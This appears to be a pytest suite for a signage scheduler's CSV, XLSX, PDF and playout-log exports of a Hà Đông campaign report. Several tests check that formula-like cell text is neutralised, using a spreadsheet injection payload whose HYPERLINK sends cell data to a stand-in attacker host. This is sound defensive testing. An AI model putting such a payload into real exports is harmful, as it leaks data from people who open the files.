"""Report exports opened with real readers: CSV with Python's csv module, XLSX with openpyxl, PDF with poppler's
pdftotext, pdffonts and pdftoppm; the proof-of-play log in the UK Playout File Format."""

from __future__ import annotations

import csv
import enum
import io
import subprocess
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scheduler.reports.charts import compliance_by_unit, delivery_by_hour
from scheduler.reports.columns import POP_COLUMNS
from scheduler.reports.exports import write_csv, write_pdf, write_xlsx
from scheduler.reports.formulas import inert
from scheduler.reports.playout import PLAYOUT_FIELDS, write_playout_csv
from scheduler.reports.table import Column, Report, Sheet

ARTIFACTS = Path(__file__).parent / "artifacts" / "report_exports"
GENERATED = datetime(2024, 8, 27, 1, 5, tzinfo=UTC)  # 08:05 in Hà Nội

UNIT_COLUMNS = [
    Column("unit", "Đơn vị", "Unit", "text", 28),
    Column("screens", "Số màn hình", "Screens", "int", 10),
    Column("delivered", "Lượt phát", "Plays", "int", 10),
    Column("compliance", "Tỷ lệ hoàn thành", "Compliance", "percent", 12),
]
DAY_COLUMNS = [
    Column("screen", "Màn hình", "Screen", "text", 22),
    Column("day", "Ngày", "Day", "date", 12),
    Column("last_seen", "Lần cuối kết nối", "Last seen", "datetime", 20),
    Column("duration", "Thời lượng", "Duration", "duration_ms", 10),
    Column("compliance", "Tỷ lệ hoàn thành", "Compliance", "percent", 12),
    Column("reason", "Lý do thiếu", "Shortfall reason", "text", 24),
    Column("planned", "Kế hoạch", "Planned", "int", 9),
]
UNITS = [
    {"unit": "Phường Phú La", "screens": 12, "delivered": 1180, "compliance": 0.975},
    {"unit": "Phường Văn Quán", "screens": 8, "delivered": 640, "compliance": 0.8},
    {"unit": "Phường Nguyễn Trãi", "screens": 3, "delivered": 0, "compliance": None},
]
UNIT_TOTALS = {"screens": 23, "delivered": 1820, "compliance": 0.9125}


def day_rows(count: int):
    for i in range(count):
        yield {"screen": f"hn-hadong-phula-{i:03d}", "day": date(2024, 8, 20) + timedelta(days=i % 7),
               "last_seen": datetime(2024, 8, 20, 3, 0, 1, tzinfo=UTC) + timedelta(minutes=i),
               "duration": 30012, "compliance": 1.0 if i % 3 else 0.7, "reason": None if i % 3 else "Mất kết nối",
               "planned": 10}


def make_report(*, rows=None, timezone: str | None = "Asia/Ho_Chi_Minh", language: str = "vi", charts=(),
                days: int = 4) -> Report:
    return Report(
        kind="compliance", title="Báo cáo tuân thủ chiến dịch “iHanoi — Công dân số”", organisation="Quận Hà Đông",
        period=(date(2024, 8, 20), date(2024, 8, 26)), generated_at=GENERATED,
        sheets=[Sheet("Theo phường", UNIT_COLUMNS, list(UNITS) if rows is None else rows, dict(UNIT_TOTALS)),
                Sheet("Theo màn hình và ngày", DAY_COLUMNS, day_rows(days))],
        charts=list(charts), language=language, notes=["Chiến dịch: ihanoi-2024"], timezone=timezone)


def csv_rows(report: Report, sheet_index: int = 0, **options) -> tuple[bytes, list[list[str]]]:
    out = io.BytesIO()
    write_csv(report, out, sheet_index, **options)
    data = out.getvalue()
    delimiter = ";" if options.get("decimal_comma") else ","
    return data, list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


# ----------------------------------------------------------------------------------------------------------------
# CSV


def test_the_csv_starts_with_a_byte_order_mark_and_reads_back_with_vietnamese_intact():
    data, rows = csv_rows(make_report())
    assert data.startswith(b"\xef\xbb\xbf")
    assert rows[0] == ["Đơn vị", "Số màn hình", "Lượt phát", "Tỷ lệ hoàn thành (%)"]
    assert [row[0] for row in rows[1:4]] == ["Phường Phú La", "Phường Văn Quán", "Phường Nguyễn Trãi"]


def test_csv_headers_follow_the_report_language():
    _, rows = csv_rows(make_report(language="en"))
    assert rows[0] == ["Unit", "Screens", "Plays", "Compliance (%)"]


def test_csv_percentages_are_points_with_a_decimal_point_and_an_unknown_one_is_empty():
    _, rows = csv_rows(make_report())
    assert [row[3] for row in rows[1:4]] == ["97.5", "80.0", ""]


def test_a_csv_percentage_short_of_the_target_never_reads_100():
    _, rows = csv_rows(make_report(rows=[{"unit": "Phường Phú La", "screens": 1, "delivered": 9999,
                                          "compliance": 0.9999}]))
    assert rows[1][3] == "99.9"


def test_the_csv_ends_with_the_totals_row_labelled_tong_cong():
    _, rows = csv_rows(make_report())
    assert rows[-1] == ["Tổng cộng", "23", "1820", "91.2"]
    assert len(rows) == 1 + len(UNITS) + 1


def test_csv_dates_are_iso_datetimes_local_with_their_offset_and_durations_whole_milliseconds():
    _, rows = csv_rows(make_report(days=2), 1)
    assert rows[0][1:4] == ["Ngày", "Lần cuối kết nối", "Thời lượng (ms)"]
    assert rows[1][1:4] == ["2024-08-20", "2024-08-20T10:00:01+07:00", "30012"]
    assert rows[2][1:4] == ["2024-08-21", "2024-08-20T10:01:01+07:00", "30012"]


def test_csv_datetimes_are_utc_with_their_offset_when_the_report_names_no_timezone():
    _, rows = csv_rows(make_report(days=1, timezone=None), 1)
    assert rows[1][2] == "2024-08-20T03:00:01+00:00"


@pytest.mark.parametrize("zone", ["Asia/Ho_Chi_Minh", "Europe/London", "America/New_York", "Asia/Kathmandu",
                                  "Australia/Lord_Howe", "UTC"])
def test_csv_datetimes_read_as_python_writes_them_in_any_timezone_across_its_clock_changes(zone):
    instants = [datetime(2024, month, day, hour, minute, tzinfo=UTC) + timedelta(microseconds=micro)
                for month, day in ((3, 10), (3, 31), (4, 6), (10, 6), (10, 27), (11, 3), (12, 31))
                for hour in range(24) for minute in (0, 14, 15, 29, 30, 59) for micro in (0, 123456)]
    columns = [Column("at", "Lúc", "At", "datetime")]
    report = make_report(timezone=zone)
    report.sheets = [Sheet("Thời điểm", columns, ({"at": at} for at in instants))]
    _, rows = csv_rows(report)
    expected = [at.astimezone(ZoneInfo(zone)).isoformat(timespec="milliseconds" if at.microsecond else "seconds")
                for at in instants]
    assert [row[0] for row in rows[1:]] == expected


def test_ids_are_made_inert_as_any_text_and_numbers_stay_numbers_in_the_csv():
    # Issue 16, item 5: ids were written unchecked, so a player's campaign id "=HYPERLINK(...)" came out live.
    columns = [Column("screen", "Màn hình", "Screen", "id"), Column("name", "Tên", "Name", "text"),
               Column("plays", "Lượt", "Plays", "int")]
    report = make_report()
    report.sheets = [Sheet("Màn hình", columns, [{"screen": "-1", "name": "-1", "plays": -1},
                                                  {"screen": FORMULA, "name": "@x", "plays": 2}],
                           {"screen": "+totals", "plays": -3})]
    _, rows = csv_rows(report)
    assert rows[1:] == [["'-1", "'-1", "-1"], ["'" + FORMULA, "'@x", "2"], ["'+totals", "", "-3"]]


def test_the_decimal_comma_variant_separates_fields_with_semicolons_for_a_vietnamese_excel():
    data, rows = csv_rows(make_report(), decimal_comma=True)
    assert data.decode("utf-8-sig").splitlines()[1] == "Phường Phú La;12;1180;97,5"
    assert rows[-1] == ["Tổng cộng", "23", "1820", "91,2"]


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_inert_prefixes_text_starting_like_a_formula_and_leaves_everything_else():
    assert [inert(v) for v in ("=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=1", "'=1", "", None, -1, 2.5)] == [
        "'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=1", "'=1", "", None, -1, 2.5]


def test_a_text_starting_like_a_formula_is_made_inert_in_the_csv():
    _, rows = csv_rows(make_report(rows=[{"unit": "=HYPERLINK(\"http://x\")", "screens": 1, "delivered": 1,
                                          "compliance": 1.0}]))
    assert rows[1][0] == "'=HYPERLINK(\"http://x\")"


def test_cells_with_commas_quotes_and_line_breaks_are_quoted_and_read_back_whole():
    awkward = ['Phường "Phú La", Hà Đông', "dòng 1\r\ndòng 2", "=1+1", None]
    _, rows = csv_rows(make_report(rows=[{"unit": name, "screens": 1, "delivered": 2, "compliance": 1.0}
                                         for name in awkward]))
    assert [row[0] for row in rows[1:5]] == ['Phường "Phú La", Hà Đông', "dòng 1\r\ndòng 2", "'=1+1", ""]


class Level(enum.Enum):
    WARD = "phường"

    def __str__(self) -> str:
        return self.value


def test_a_value_that_is_not_text_in_a_text_column_is_written_as_its_str():
    _, rows = csv_rows(make_report(rows=[{"unit": Level.WARD, "screens": 1, "delivered": 2, "compliance": 1.0}]))
    assert rows[1] == ["phường", "1", "2", "100.0"]


TEXTS = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=12)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.tuples(st.none() | TEXTS, st.none() | st.integers(-10**12, 10**12), st.none() | TEXTS),
                min_size=1, max_size=30))
def test_any_texts_and_numbers_read_back_as_written(cells):
    columns = [Column("a", "A", "A", "text"), Column("n", "N", "N", "int"), Column("i", "I", "I", "id")]
    report = make_report()
    report.sheets = [Sheet("S", columns, [{"a": a, "n": n, "i": i} for a, n, i in cells])]
    _, rows = csv_rows(report)

    def guarded(text):
        return "'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text

    assert rows[1:] == [[guarded(a or ""), "" if n is None else str(n), guarded(i or "")] for a, n, i in cells]


def test_a_row_missing_a_column_is_refused_naming_the_column_and_the_fix():
    report = make_report(rows=[{"unit": "Phường Phú La", "screens": 1, "delivered": 1}])
    with pytest.raises(ValueError, match=r"no value for the column 'compliance'.*None when there is no value"):
        write_csv(report, io.BytesIO())


def test_asking_for_a_sheet_the_report_does_not_have_names_the_sheets_it_has():
    with pytest.raises(ValueError, match="no sheet 5; its sheets are 0: Theo phường, 1: Theo màn hình và ngày"):
        write_csv(make_report(), io.BytesIO(), 5)


class WatchedRows:
    """A generator of rows that counts how many it has produced, for the sink to look at while it is written."""

    def __init__(self, total: int):
        self.total = total
        self.produced = 0

    def __iter__(self):
        for i in range(self.total):
            self.produced += 1
            yield {"unit": f"Phường {i}", "screens": i, "delivered": i * 10, "compliance": 1.0}


class Sink(io.RawIOBase):
    """A binary file that notes, at each write, how many rows the generator had produced by then."""

    def __init__(self, rows: WatchedRows):
        self.rows = rows
        self.produced_at_writes: list[int] = []
        self.lines = 0

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        self.produced_at_writes.append(self.rows.produced)
        self.lines += bytes(data).count(b"\n")
        return len(data)


def test_a_csv_of_100000_generated_rows_is_written_while_the_generator_is_still_being_consumed():
    rows = WatchedRows(100_000)
    sink = Sink(rows)
    write_csv(make_report(rows=iter(rows)), sink)
    assert sink.lines == 1 + 100_000 + 1
    assert rows.produced == 100_000
    # Written chunk by chunk as rows arrive: most writes happen before the generator is finished.
    assert len(sink.produced_at_writes) > 10
    assert sink.produced_at_writes[1] < 10_000
    assert sorted(sink.produced_at_writes) == sink.produced_at_writes


# ----------------------------------------------------------------------------------------------------------------
# XLSX


@pytest.fixture(scope="module")
def workbook(tmp_path_factory):
    path = tmp_path_factory.mktemp("xlsx") / "report.xlsx"
    write_xlsx(make_report(days=5), path)
    return openpyxl.load_workbook(path)


def test_the_xlsx_has_an_information_sheet_then_one_sheet_per_level(workbook):
    assert workbook.sheetnames == ["Thông tin", "Theo phường", "Theo màn hình và ngày"]


def test_the_xlsx_information_sheet_names_the_title_organisation_period_and_generation_time(workbook):
    info = {row[0]: row[1] for row in workbook["Thông tin"].iter_rows(values_only=True) if row and row[0]}
    assert "Báo cáo tuân thủ chiến dịch “iHanoi — Công dân số”" in info
    assert info["Đơn vị"] == "Quận Hà Đông"
    assert info["Kỳ báo cáo"] == "20/08/2024 – 26/08/2024"
    assert info["Thời điểm lập"] == "27/08/2024 08:05:00"
    assert info["Múi giờ"] == "Asia/Ho_Chi_Minh"
    assert info["Ghi chú"] == "Chiến dịch: ihanoi-2024"


def test_xlsx_cells_are_typed_numbers_percentages_and_dates(workbook):
    units = workbook["Theo phường"]
    assert [c.value for c in units[2]] == ["Phường Phú La", 12, 1180, 0.975]
    assert units["D2"].number_format == "0.0%"
    assert units["D4"].value is None
    days = workbook["Theo màn hình và ngày"]
    assert days["B2"].value == datetime(2024, 8, 20) and days["B2"].is_date
    assert days["B2"].number_format == "dd/mm/yyyy"
    assert days["C2"].value == datetime(2024, 8, 20, 10, 0, 1)  # naive, in Hà Nội's time
    assert days["C2"].number_format == "dd/mm/yyyy hh:mm:ss"
    assert days["D2"].value == 30012 and days["D1"].value == "Thời lượng (ms)"


def test_the_xlsx_header_is_bold_and_frozen_and_the_columns_have_their_widths(workbook):
    units = workbook["Theo phường"]
    assert [c.value for c in units[1]] == ["Đơn vị", "Số màn hình", "Lượt phát", "Tỷ lệ hoàn thành"]
    assert all(c.font.bold for c in units[1])
    assert units.freeze_panes == "A2"
    assert [units.column_dimensions[letter].width for letter in "ABCD"] == [28, 10, 10, 12]


def test_the_xlsx_totals_row_is_bold_and_last(workbook):
    units = workbook["Theo phường"]
    last = units[units.max_row]
    # the share as every other output shows it (91.2 %, rounded down once): Excel's 0.0% would show 91.3 % of 0.9125
    assert [c.value for c in last] == ["Tổng cộng", 23, 1820, 0.912]
    assert all(c.font.bold for c in last)


def test_a_text_starting_with_an_equals_sign_stays_text_in_the_xlsx(tmp_path):
    path = tmp_path / "r.xlsx"
    write_xlsx(make_report(rows=[{"unit": "=1+1", "screens": 1, "delivered": 1, "compliance": 1.0}]), path)
    cell = openpyxl.load_workbook(path)["Theo phường"]["A2"]
    assert cell.value == "'=1+1" and cell.data_type == "s"


def test_every_xlsx_text_and_id_starting_like_a_formula_is_made_inert_and_numbers_stay_numbers(tmp_path):
    # Issue 16, item 5: before, only "=" was kept as text (unprefixed), "+", "-", "@" were written as typed, and
    # the information sheet's organisation "=..." became a live formula.
    columns = [Column("screen", "Màn hình", "Screen", "id"), Column("name", "Tên", "Name", "text"),
               Column("plays", "Lượt", "Plays", "int")]
    report = make_report()
    report.organisation = FORMULA
    report.notes = ["-ghi chú"]
    report.sheets = [Sheet("Màn hình", columns, [{"screen": FORMULA, "name": "@x", "plays": -1},
                                                  {"screen": "-1", "name": "+84 912", "plays": 2}])]
    path = tmp_path / "r.xlsx"
    write_xlsx(report, path)
    book = openpyxl.load_workbook(path)
    cells = [[(c.value, c.data_type) for c in row] for row in book["Màn hình"].iter_rows(min_row=2)]
    assert cells == [[("'" + FORMULA, "s"), ("'@x", "s"), (-1, "n")], [("'-1", "s"), ("'+84 912", "s"), (2, "n")]]
    information = [(c.value, c.data_type) for row in book["Thông tin"].iter_rows() for c in row if c.value]
    assert ("'" + FORMULA, "s") in information and ("'-ghi chú", "s") in information
    assert not [value for value, kind in information if kind == "f"]


def test_a_sheet_longer_than_a_worksheet_continues_on_the_next_with_the_header_again(tmp_path):
    path = tmp_path / "long.xlsx"
    write_xlsx(make_report(rows=list(WatchedRows(7))), path, max_rows_per_sheet=4)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames[1:4] == ["Theo phường", "Theo phường (2)", "Theo phường (3)"]
    second = [[c.value for c in row] for row in book["Theo phường (2)"].iter_rows()]
    assert second[0][0] == "Đơn vị" and [r[0] for r in second[1:]] == ["Phường 3", "Phường 4", "Phường 5"]
    third = [[c.value for c in row] for row in book["Theo phường (3)"].iter_rows()]
    assert [r[0] for r in third[1:]] == ["Phường 6", "Tổng cộng"]


# ----------------------------------------------------------------------------------------------------------------
# PDF


def pdf_text(path: Path, page: int | None = None) -> str:
    pages = ["-f", str(page), "-l", str(page)] if page else []
    return subprocess.run(["pdftotext", "-layout", *pages, str(path), "-"], check=True, capture_output=True,
                          text=True).stdout


def pdf_info(path: Path) -> dict[str, str]:
    info = subprocess.run(["pdfinfo", str(path)], check=True, capture_output=True, text=True).stdout
    return {key.strip(): value.strip() for key, _, value in (line.partition(":") for line in info.splitlines())}


def page_count(path: Path) -> int:
    return int(pdf_info(path)["Pages"])


def page_size_mm(path: Path) -> tuple[int, int]:
    width, _, height, *_ = pdf_info(path)["Page size"].split()  # "841.89 x 595.276 pts (A4)"
    return round(float(width) * 25.4 / 72), round(float(height) * 25.4 / 72)


@pytest.fixture(scope="module")
def pdf(tmp_path_factory) -> Path:
    charts = [delivery_by_hour([0] * 5 + [3, 40, 60, 55, 20, 10, 8, 9, 10, 12, 15, 30, 50, 48, 20, 5, 2, 0, 0],
                               [(330, 540), (990, 1140)], "Lượt phát theo giờ so với khung giờ cao điểm"),
              compliance_by_unit([("Phường Phú La", 0.975), ("Phường Văn Quán", 0.8)], "Tỷ lệ hoàn thành theo phường")]
    path = tmp_path_factory.mktemp("pdf") / "report.pdf"
    write_pdf(make_report(days=150, charts=charts), path, max_rows=120)
    return path


def test_the_pdf_shows_the_vietnamese_title_organisation_period_and_totals(pdf):
    text = pdf_text(pdf, 1)
    assert "Báo cáo tuân thủ chiến dịch “iHanoi — Công dân số”" in text
    assert "Đơn vị: Quận Hà Đông" in text
    assert "Kỳ báo cáo: 20/08/2024 – 26/08/2024" in text
    totals = next(line for line in pdf_text(pdf).splitlines() if "Tổng cộng" in line).split()
    assert totals == ["Tổng", "cộng", "23", "1.820", "91,2", "%"]


def test_every_pdf_page_carries_the_organisation_the_period_and_its_page_number(pdf):
    pages = page_count(pdf)
    assert pages >= 3
    for page in range(1, pages + 1):
        text = pdf_text(pdf, page)
        assert "Quận Hà Đông · Kỳ báo cáo: 20/08/2024 – 26/08/2024" in text
        assert f"Trang {page}/{pages}" in text


def test_a_pdf_table_repeats_its_header_on_the_pages_it_continues_on(pdf):
    pages_with_header = [page for page in range(2, page_count(pdf) + 1)
                         if "Lần cuối kết nối" in pdf_text(pdf, page)]
    assert len(pages_with_header) >= 2


def test_a_long_sheet_in_the_pdf_stops_at_the_cap_and_says_how_many_rows_the_csv_and_xlsx_hold(pdf):
    text = pdf_text(pdf)
    assert "hn-hadong-phula-119" in text and "hn-hadong-phula-120" not in text
    assert "… và 30 dòng nữa: xem đầy đủ trong tệp CSV hoặc XLSX." in text


def test_a_capped_pdf_takes_the_number_of_further_rows_from_the_sheet_when_known_without_reading_them(tmp_path):
    rows = WatchedRows(100_000)
    report = make_report(rows=iter(rows))
    report.sheets[0].row_count = 100_000
    write_pdf(report, tmp_path / "capped.pdf", max_rows=10)
    assert rows.produced == 10
    assert "… và 99.990 dòng nữa" in pdf_text(tmp_path / "capped.pdf")


def test_the_pdf_includes_the_charts_with_their_vietnamese_labels(pdf):
    text = pdf_text(pdf)
    assert "Khung giờ cao điểm" in text and "Lượt phát theo giờ so với khung giờ cao điểm" in text
    assert "Phường Văn Quán" in text and "80,0 %" in text


def test_the_pdf_embeds_its_fonts(pdf):
    fonts = subprocess.run(["pdffonts", str(pdf)], check=True, capture_output=True, text=True).stdout
    rows = [line.split() for line in fonts.splitlines()[2:] if line.strip()]
    assert rows and all(row[-5] == "yes" for row in rows)  # the "emb" column


def test_a_wide_report_is_printed_on_landscape_a4(pdf):
    assert page_size_mm(pdf) == (297, 210)


def test_an_english_pdf_speaks_english_with_english_number_conventions(tmp_path):
    report = make_report(language="en")
    report.sheets = report.sheets[:1]
    write_pdf(report, tmp_path / "en.pdf")
    text = pdf_text(tmp_path / "en.pdf")
    assert "Organisation: Quận Hà Đông" in text and "Period: 2024-08-20 – 2024-08-26" in text
    assert "Page 1/1" in text
    assert next(line for line in text.splitlines() if "Total" in line).split() == ["Total", "23", "1,820", "91.2%"]


def test_a_narrow_report_is_printed_on_portrait_a4(tmp_path):
    report = make_report()
    report.sheets = report.sheets[:1]
    write_pdf(report, tmp_path / "narrow.pdf")
    assert page_size_mm(tmp_path / "narrow.pdf") == (210, 297)


def test_the_pdf_renders_to_png_pages_kept_as_test_artifacts(pdf):
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    for old in ARTIFACTS.glob("report-*.png"):
        old.unlink()
    subprocess.run(["pdftoppm", "-png", "-r", "80", "-f", "1", "-l", "2", str(pdf), str(ARTIFACTS / "report")],
                   check=True)
    pngs = sorted(ARTIFACTS.glob("report-*.png"))
    assert len(pngs) == 2
    assert all(png.read_bytes().startswith(b"\x89PNG") and png.stat().st_size > 10_000 for png in pngs)


# ----------------------------------------------------------------------------------------------------------------
# Playout File Format


def play(**changes):
    row = {"player_id": "hn-hadong-phula-001", "site_id": "hadong-phula", "organisation_id": "hn-hadong-phula",
           "campaign_id": "ihanoi-2024", "campaign_name": "iHanoi, Công dân số", "media": "ab" * 32,
           "media_name": "ihanoi-30s.mp4", "kind": "spot",
           "scheduled_start": datetime(2024, 8, 20, 3, 0, tzinfo=UTC),
           "started_at": datetime(2024, 8, 20, 3, 0, 0, 120000, tzinfo=UTC),
           "ended_at": datetime(2024, 8, 20, 3, 0, 30, 132000, tzinfo=UTC), "duration_ms": 30012,
           "status": "completed", "reason": None, "play_id": "5f0c6a52-8d1e-4c1b-9a43-0d7b2f4a9e11"}
    return row | changes


def playout(rows, **options) -> tuple[bytes, list[list[str]]]:
    out = io.BytesIO()
    written = write_playout_csv(rows, out, **options)
    data = out.getvalue()
    records = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert written == len(records) - (1 if options.get("header") else 0)
    return data, records


def test_playout_records_have_the_19_specified_fields_no_header_and_unix_line_ends():
    data, records = playout([play(), play(play_id="second")])
    assert len(records) == 2 and all(len(record) == len(PLAYOUT_FIELDS) == 19 for record in records)
    assert not data.startswith(b"\xef\xbb\xbf") and b"\r" not in data and data.endswith(b"\n")


def test_the_playout_header_when_asked_is_the_specified_field_names_in_order():
    _, records = playout([play()], header=True)
    assert records[0] == ["frameid", "startdate", "startutcoffset", "enddate", "endutcoffset", "spotlength",
                          "shareoftime", "orderid", "lineid", "spacebuyerid", "spaceagencyid", "spacebrandid",
                          "buyercampaignref", "creativeid", "creativename", "thirdpartycreativeref",
                          "creativetriggerevent", "playerref", "mediaownerplayoutref"]


def test_a_playout_record_maps_our_proof_of_play_fields():
    _, [record] = playout([play()])
    fields = dict(zip(PLAYOUT_FIELDS, record, strict=True))
    assert fields == {
        "frameid": "hn-hadong-phula-001", "startdate": "2024-08-20T03:00:00.120", "startutcoffset": "+07:00",
        "enddate": "2024-08-20T03:00:30.132", "endutcoffset": "+07:00", "spotlength": "30012", "shareoftime": "",
        "orderid": "ihanoi-2024", "lineid": "", "spacebuyerid": "", "spaceagencyid": "", "spacebrandid": "",
        "buyercampaignref": "iHanoi, Công dân số", "creativeid": "ab" * 32, "creativename": "ihanoi-30s.mp4",
        "thirdpartycreativeref": "", "creativetriggerevent": "spot", "playerref": "hn-hadong-phula-001",
        "mediaownerplayoutref": "5f0c6a52-8d1e-4c1b-9a43-0d7b2f4a9e11"}


def test_playout_uses_space_frame_and_buyer_ids_when_given():
    _, [record] = playout([play()], frame_ids={"hn-hadong-phula-001": 1234567}, space_buyer_id=42,
                          space_brand_id=7)
    fields = dict(zip(PLAYOUT_FIELDS, record, strict=True))
    assert (fields["frameid"], fields["spacebuyerid"], fields["spacebrandid"]) == ("1234567", "42", "7")


def test_playout_text_fields_starting_like_a_formula_are_made_inert_and_numbers_stay_numbers():
    # Issue 16, item 5: before, every field was written as it came.
    _, [record] = playout([play(player_id="-scr", campaign_id=FORMULA, campaign_name="@Chiến dịch", media="+ab",
                                media_name="=1+1.mp4", play_id="-1")])
    fields = dict(zip(PLAYOUT_FIELDS, record, strict=True))
    assert [fields[f] for f in ("frameid", "orderid", "buyercampaignref", "creativeid", "creativename",
                                "playerref", "mediaownerplayoutref")] == [
        "'-scr", "'" + FORMULA, "'@Chiến dịch", "'+ab", "'=1+1.mp4", "'-scr", "'-1"]
    assert fields["spotlength"] == "30012"


def test_only_completed_plays_of_campaigns_are_playouts():
    rows = [play(play_id="done"), play(play_id="failed", status="failed"), play(play_id="missed", status="missed"),
            play(play_id="cut", status="interrupted"), play(play_id="filler", kind="filler", campaign_id=None),
            play(play_id="makegood", kind="makegood")]
    _, records = playout(rows)
    assert [(r[-1], r[-3]) for r in records] == [("done", "spot"), ("makegood", "makegood")]


def test_a_playout_offset_follows_the_screens_own_timezone_when_a_row_names_one():
    _, [record] = playout([play(timezone="Europe/London")])
    assert record[2] == "+01:00"  # British Summer Time in August


@pytest.mark.parametrize("zone", ["Asia/Ho_Chi_Minh", "Europe/London", "America/New_York", "Australia/Lord_Howe"])
def test_playout_times_are_utc_with_milliseconds_and_the_offset_of_the_moment_across_clock_changes(zone):
    starts = [datetime(2024, month, day, hour, minute, tzinfo=UTC) + timedelta(microseconds=micro)
              for month, day in ((3, 10), (3, 31), (4, 6), (10, 6), (10, 27), (11, 3))
              for hour in range(24) for minute in (0, 29, 30, 59) for micro in (0, 999999)]
    rows = [play(play_id=f"p{i}", started_at=at, ended_at=at + timedelta(seconds=30)) for i, at in enumerate(starts)]
    _, records = playout(rows, timezone=zone)
    assert [(r[1], r[2]) for r in records] == [
        (at.replace(tzinfo=None).isoformat(timespec="milliseconds"), at.astimezone(ZoneInfo(zone)).isoformat()[-6:])
        for at in starts]


def test_playout_reads_iso_text_times_as_well_as_datetimes():
    _, [record] = playout([play(started_at="2024-08-20T10:00:00.120+07:00", ended_at="2024-08-20T03:00:30Z")])
    assert record[1:5] == ["2024-08-20T03:00:00.120", "+07:00", "2024-08-20T03:00:30.000", "+07:00"]


# ----------------------------------------------------------------------------------------------------------------
# The proof-of-play log: names for people, the ids tools match on after them (issue 18, item 4)


def pop_report(rows) -> Report:
    return Report(kind="pop", title="Nhật ký phát sóng", organisation="Quận Hà Đông",
                  period=(date(2024, 8, 20), date(2024, 8, 20)), generated_at=GENERATED,
                  sheets=[Sheet("Nhật ký", POP_COLUMNS, rows)], timezone="Asia/Ho_Chi_Minh")


LOG = [play(screen_name="Màn hình sảnh Phú La", site="Bộ phận một cửa Phú La", organisation="Phường Phú La",
            reason=None),
       # a file no library names, of a play of no campaign: only its id to show
       play(screen_name="Màn hình sảnh Phú La", site="Bộ phận một cửa Phú La", organisation="Phường Phú La",
            reason=None, campaign_id=None, campaign_name=None, media="cd" * 32, media_name=None, kind="alert")]


def test_the_logs_csv_and_xlsx_name_screens_campaigns_and_files_and_keep_their_ids_after(tmp_path):
    _, rows = csv_rows(pop_report(LOG))
    assert rows[0][2:7] == ["Màn hình", "Điểm đặt", "Đơn vị", "Chiến dịch", "Nội dung"]
    assert rows[0][12:] == ["Mã màn hình", "Mã chiến dịch", "Media (sha256)", "Mã lượt phát"]
    assert rows[1][2:7] == ["Màn hình sảnh Phú La", "Bộ phận một cửa Phú La", "Phường Phú La",
                            "iHanoi, Công dân số", "ihanoi-30s.mp4"]
    assert rows[1][12:] == ["hn-hadong-phula-001", "ihanoi-2024", "ab" * 32, "5f0c6a52-8d1e-4c1b-9a43-0d7b2f4a9e11"]
    assert rows[2][5:7] == ["", ""] and rows[2][13:15] == ["", "cd" * 32]
    path = tmp_path / "log.xlsx"
    write_xlsx(pop_report(LOG), path)
    sheet = openpyxl.load_workbook(path)["Nhật ký"]
    header, first = ([cell.value for cell in row] for row in sheet.iter_rows(max_row=2))
    assert header[2] == "Màn hình" and header[12:15] == ["Mã màn hình", "Mã chiến dịch", "Media (sha256)"]
    assert first[2] == "Màn hình sảnh Phú La" and first[5:7] == ["iHanoi, Công dân số", "ihanoi-30s.mp4"]
    assert first[12:15] == ["hn-hadong-phula-001", "ihanoi-2024", "ab" * 32]


def test_the_logs_pdf_shows_the_names_alone_and_an_id_only_where_there_is_no_name(tmp_path):
    path = tmp_path / "log.pdf"
    write_pdf(pop_report(LOG), path)
    # In the order drawn, whitespace dropped: the table's narrow columns wrap names anywhere.
    text = "".join(subprocess.run(["pdftotext", "-raw", str(path), "-"], check=True, capture_output=True,
                                  text=True).stdout.split())
    assert "MànhìnhsảnhPhúLa" in text and "ihanoi-30s.mp4" in text and "iHanoi,Côngdânsố" in text
    assert "hn-hadong-phula-001" not in text and "ihanoi-2024" not in text and "ab" * 8 not in text
    assert "Mãmànhình" not in text and "sha256" not in text
    assert "cd" * 32 in text  # the file no library names
